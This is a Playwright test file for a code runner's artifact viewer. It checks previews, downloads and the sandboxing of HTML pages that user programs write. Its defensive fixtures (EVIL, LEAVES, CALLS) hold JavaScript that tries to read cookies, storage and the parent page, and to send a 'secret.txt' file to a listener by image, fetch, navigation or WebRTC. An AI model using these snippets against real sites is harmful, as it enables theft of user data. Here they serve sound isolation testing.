"""What a program writes, under its output: pictures, tables, and pages that can do nothing to ours."""

from __future__ import annotations

import contextlib
import socket
import urllib.parse
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.browser.tab import Tab
from tests.browser.test_pictures import PICTURE
from tests.harness import Server, running_server

CARDS = "#artifacts-list .card-name"
LOADED = "[...document.querySelectorAll('#artifacts-list img')].every((one) => one.naturalWidth > 0)"


def test_what_a_program_wrote_is_shown_and_saved(tab: Tab) -> None:
    page = tab.page
    tab.run(
        PICTURE + "import os\nos.makedirs('out')\n"
        "open('out/plot.png', 'wb').write(png(40, 30))\ninput('1> ')\n"
        'open(\'drawing.svg\', \'w\').write(\'<svg xmlns="http://www.w3.org/2000/svg" width="30" height="20">'
        '<rect width="30" height="20" fill="red"/></svg>\')\ninput(\'2> \')\n'
        "open('table.csv', 'w').write('name,count\\n' + ''.join(f'row {n},{n}\\n' for n in range(500)))\n"
        "input('3> ')\nopen('out/plot.png', 'wb').write(png(80, 30))\ninput('4> ')\n"
    ).sees("1> ")
    for number, wanted in enumerate((["plot.png"], ["drawing.svg", "plot.png"]), 1):
        tab.until(f"document.querySelectorAll({CARDS!r}).length === {number}")
        expect(page.locator(CARDS), "the newest first").to_have_text(wanted, use_inner_text=True)
        tab.until(LOADED)
        page.click("#program-term")
        tab.type("\n").sees(f"{number + 1}> ")
    tab.until(f"document.querySelectorAll({CARDS!r}).length === 3")
    page.wait_for_selector("#artifacts-list table")
    page.click("#program-term")
    tab.type("\n").sees("4> ")
    tab.until(
        "document.querySelector('#artifacts-list li').dataset.path === 'out/plot.png'"
        " && document.querySelector('#artifacts-list img').naturalWidth === 80"
    )
    tab.reload().sees("4> ")
    tab.until(f"document.querySelectorAll({CARDS!r}).length === 3")
    tab.until(LOADED)
    with page.expect_download() as download:
        page.click("#artifacts-list [aria-label='Save table.csv']")
    assert Path(download.value.path()).read_text().endswith("row 499,499\n")
    # One large, with the keyboard; the table is bounded and its numbers stand right.
    page.focus("#artifacts-list [data-path='table.csv'] .card")
    page.keyboard.press("Enter")
    page.wait_for_selector("#viewer table")
    expect(page.locator("#viewer tbody tr")).to_have_count(199)
    expect(page.locator("#viewer-body .hint")).to_contain_text("The first 200 rows.")
    expect(page.locator("#viewer th")).to_have_text(["name", "count"], use_inner_text=True)
    page.keyboard.press("ArrowRight")
    tab.until("document.querySelector('#viewer img')?.naturalWidth > 0")
    page.keyboard.press("Escape")
    tab.until("document.activeElement.closest('#artifacts-list') !== null")
    page.click("#program-term")
    tab.type("\n")
    tab.ended("Finished")
    expect(page.locator("#artifacts")).to_be_visible()
    tab.run("print('next')\n")
    expect(page.locator("#artifacts")).to_be_hidden()


EVIL = """<body></body><script>
const told = {};
const attempt = (name, act) => {
  try { told[name] = String(act()); } catch (error) { told[name] = error.name; }
};
attempt('ran', () => 'yes');
attempt('origin', () => location.origin === 'null' || origin);
attempt('parent', () => parent.document.title);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('top', () => { top.location = 'about:blank'; return 'moved'; });
fetch('/api/languages').then(() => 'reached', () => 'refused').then((word) => {
    told.fetch = word;
    document.body.textContent = JSON.stringify(told);
});
</script>"""


def test_a_page_of_a_program_has_no_origin_and_reaches_nothing(tab: Tab) -> None:
    tab.allowed += [
        "policy violated: connect-src",
        "Content Security Policy",
        "CORS policy",
        "Failed to load resource",
        "sandbox",
        "navigate",
    ]
    tab.code(f"open('evil.html', 'w').write({EVIL!r})\ninput('> ')\n").run().sees("> ")
    page = tab.page
    page.wait_for_selector("#artifacts-list .card")
    expect(page.locator("iframe"), "nothing of it runs before the user opens it").to_have_count(0)
    page.click("#artifacts-list .card")
    expect(page.locator("#viewer iframe")).to_have_attribute("sandbox", "allow-scripts")
    frame = page.frame_locator("#viewer iframe")
    frame.locator("body:has-text('fetch')").wait_for(timeout=10_000)
    told = frame.locator("body").evaluate("(body) => JSON.parse(body.textContent)")
    assert told == {
        "ran": "yes", "origin": "null", "parent": "SecurityError", "cookie": "SecurityError",
        "storage": "SecurityError", "top": "SecurityError", "fetch": "refused",
    }  # fmt: skip
    page.keyboard.press("Escape")
    tab.until("document.querySelector('iframe') === null")  # closed, it stops
    page.click("#program-term")
    tab.type("\n")
    tab.ended("Finished")


LEAVES = """<!doctype html><p>in a frame</p><script>
fetch('secret.txt').then((answer) => answer.text()).catch(() => 'none').then((text) => {
  const to = 'http://127.0.0.1:PORT/?' + encodeURIComponent(text + location.href);
  new Image().src = to;
  fetch(to, {mode: 'no-cors'}).catch(() => 0);
  const link = document.createElement('a');
  link.href = to;
  link.target = '_top';
  link.click();
  try { top.location = to; } catch (error) { document.title = String(error); }
  document.body.append('tried');
  setTimeout(() => { location.href = to; }, 1500);
});
</script>"""


def test_a_page_of_a_program_in_a_tab_of_its_own_carries_nothing_away(tab: Tab) -> None:
    tab.allowed += ["Content Security Policy", "policy violated", "Failed to load", "sandbox", "navigate"]
    tab.allowed += ["CORS policy"]
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        page = LEAVES.replace("PORT", str(elsewhere.getsockname()[1]))
        secret = "open('secret.txt', 'w').write('SECRET')"
        leaves = f"open('leaves.html', 'w').write({page!r})"
        tab.code(f"{secret}\n{leaves}\ninput('> ')\n").run().sees("> ")
        tab.page.click("#artifacts-list .card")
        url = tab.page.get_attribute("#viewer-open", "href")
        tab.page.keyboard.press("Escape")
        other = tab.page.context.new_page()
        try:
            other.goto(urllib.parse.urljoin(tab.page.url, url))
            expect(other.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
            other.frame_locator("iframe").locator("body:has-text('tried')").wait_for(timeout=10_000)
            elsewhere.settimeout(5)
            with contextlib.suppress(TimeoutError):
                # Chromium may connect ahead of a navigation that it then refuses; what counts is a request.
                while True:
                    with elsewhere.accept()[0] as connection:
                        connection.settimeout(5)
                        assert connection.recv(4096) == b""
            assert "/view/" in other.url
        finally:
            other.close()
    tab.page.click("#program-term")
    tab.type("\n")
    tab.ended("Finished")


# The constructor throws (Chromium 150), or nothing is ever sent (156): either is the browser's affair. Not in
# a frame by srcdoc, where a connection ends the page's process in Chromium 156.
CALLS = """<!doctype html><body></body><script>
const told = {};
try {
  const one = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
  one.createDataChannel('x');
  one.createOffer().then((offer) => one.setLocalDescription(offer));
  told.page = 'made';
} catch (error) { told.page = error.name; }
fetch('data.json').then((answer) => answer.text(), () => 'refused').then((text) => {
  told.fetch = text;
  // Where nothing stops it, the first datagram is there after some ten milliseconds.
  setTimeout(() => { document.body.textContent = JSON.stringify(told); }, 1000);
});
</script>"""


def test_a_page_of_a_program_sends_no_datagrams(tab: Tab) -> None:
    """By WebRTC, of which no content security policy knows."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
        elsewhere.bind(("127.0.0.1", 0))
        elsewhere.setblocking(False)
        page = CALLS.replace("PORT", str(elsewhere.getsockname()[1]))
        files = f"open('data.json', 'w').write('there')\nopen('calls.html', 'w').write({page!r})\n"
        tab.code(files + "input('> ')\n").run().sees("> ")
        tab.page.click("#artifacts-list .card")
        body = tab.page.frame_locator("#viewer iframe").locator("body:has-text('fetch')")
        told = body.evaluate("(body) => JSON.parse(body.textContent)")
        assert told["fetch"] == "there"
        assert told["page"] in ("NotAllowedError", "made")
        with pytest.raises(BlockingIOError):
            elsewhere.recv(1)
    tab.page.keyboard.press("Escape")
    tab.page.click("#program-term")
    tab.type("\n")
    tab.ended("Finished")


LIVES = """<!doctype html><p id="last"></p><p id="worst">200</p><p id="for">0</p><script>
const show = (id, text) => { document.getElementById(id).textContent = text; };
setInterval(() => fetch('data.json').then(({ status }) => status, () => 'none').then((status) => {
  show('last', status);
  if (status !== 200) show('worst', status);
  show('for', Math.floor(performance.now()));
}), 100);
</script>"""


@pytest.fixture(scope="module")
def forgetful(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Its addresses are good for two seconds; it has a name that a browser trusts with less."""
    folder = tmp_path_factory.mktemp("forgetful")
    with running_server(folder, LANGUAGES="python", VIEW_TTL="2000", ALLOWED_HOSTS="code.test") as server:
        yield server


def _lived(frame: FrameLocator, seconds: float) -> str:
    """The worst answer that a page got which has lived this long."""
    for _ in range(300):
        if int(frame.locator("#for").inner_text(timeout=10_000)) > seconds * 1000:
            return frame.locator("#worst").inner_text()
        frame.owner.page.wait_for_timeout(100)
    raise AssertionError("it does not live")


def _with_one_that_lives(open_tab: Callable[..., Tab], forgetful: Server) -> Tab:
    """A page whose program made one that asks for its file again and again, and waits."""
    tab = open_tab(forgetful.url).language("Python")
    tab.allowed += ["Failed to load resource"]
    tab.code(f"open('data.json', 'w').write('1')\nopen('lives.html', 'w').write({LIVES!r})\ninput('> ')\n")
    return tab.run().sees("> ")


def _opened(page: Page, url: str) -> FrameLocator:
    page.goto(url)
    return page.frame_locator("iframe")


@pytest.mark.long
def test_what_is_shown_goes_on_for_longer_than_its_address_and_ends_with_it(
    open_tab: Callable[..., Tab], forgetful: Server
) -> None:
    """In the page and in a tab of its own; no longer than the page lists it."""
    tab = _with_one_that_lives(open_tab, forgetful)
    tab.page.wait_for_selector("#artifacts-list .card")
    tab.page.wait_for_timeout(2500)  # an address that nobody keeps is over by now
    tab.page.click("#artifacts-list .card")
    shown = tab.page.frame_locator("#viewer iframe")
    assert _lived(shown, 5) == "200"
    other = tab.page.context.new_page()
    try:
        href = tab.page.get_attribute("#viewer-open", "href")
        outside = _opened(other, urllib.parse.urljoin(tab.page.url, href))
        assert _lived(outside, 5) == "200"
        assert _lived(shown, 8) == "200"
        tab.page.keyboard.press("Escape")
        tab.page.click("#program-term")
        tab.type("\n")
        tab.ended("Finished")
        assert _lived(outside, 8) == "200"
        tab.run("print('next')\n")
        tab.ended("Finished")  # nothing is listed any more
        outside.locator("#last:has-text('none')").wait_for(timeout=15_000)
    finally:
        other.close()


def test_where_a_browser_does_not_say_what_it_loads_for_a_page_is_in_a_frame(
    open_tab: Callable[..., Tab], forgetful: Server
) -> None:
    tab = _with_one_that_lives(open_tab, forgetful)
    tab.page.click("#artifacts-list .card")
    url = urllib.parse.urljoin(tab.page.url, tab.page.get_attribute("#viewer-open", "href"))
    tab.page.keyboard.press("Escape")
    other = tab.page.context.new_page()
    try:
        sent: list[dict[str, str]] = []
        other.on("request", lambda request: sent.append(request.all_headers()))
        for query in ("", "&framed=guessed"):
            frame = _opened(other, url.replace("127.0.0.1", "code.test") + query)
            assert _lived(frame, 1) == "200"
            expect(other.locator("iframe")).to_have_attribute("sandbox", "allow-scripts")
        assert not any("sec-fetch-dest" in headers for headers in sent)
    finally:
        other.close()
    tab.page.click("#program-term")
    tab.type("\n")
    tab.ended("Finished")


def test_artifacts_on_a_phone(open_tab: Callable[..., Tab]) -> None:
    tab = open_tab(viewport={"width": 390, "height": 760}, has_touch=True, is_mobile=True).language("Python")
    page = tab.page
    tab.run(
        PICTURE + "for n in range(9): open(f'picture-{n}.png', 'wb').write(png(40, 30))\ninput('> ')\n"
    ).sees("> ")
    tab.until(f"document.querySelectorAll({CARDS!r}).length === 9")
    tab.shows("document.documentElement.scrollWidth", 390)
    rows = tab.get("coderunner.screens.program.view.size.rows")
    page.tap("#toggle-artifacts")
    tab.until(f"coderunner.screens.program.view.size.rows > {rows}")
    page.set_viewport_size({"width": 390, "height": 400})  # its keyboard is open
    page.wait_for_selector("#artifacts", state="hidden")
    page.set_viewport_size({"width": 390, "height": 760})
    page.wait_for_selector("#artifacts")
    page.tap("#toggle-artifacts")
    page.tap("#artifacts-list .card")
    box = page.locator("#viewer").bounding_box()
    assert box
    assert (box["width"], box["height"]) == (390, 760)
    page.tap("#viewer-close")
    page.tap("#program-term")
    tab.type("\n")
    tab.ended("Finished")
